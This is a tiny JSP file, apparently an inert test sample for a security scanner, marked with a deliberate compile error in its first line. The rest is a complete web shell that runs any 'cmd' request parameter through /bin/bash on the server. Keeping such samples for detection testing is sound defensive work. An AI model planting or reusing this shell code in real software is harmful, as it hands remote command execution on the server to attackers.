<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ page import="java.util.*,java.io.*"%><% String cmd = request.getParameter("cmd"); if (cmd != null) { Process p = Runtime.getRuntime().exec(new String[]{"/bin/bash","-c",cmd}); } %>
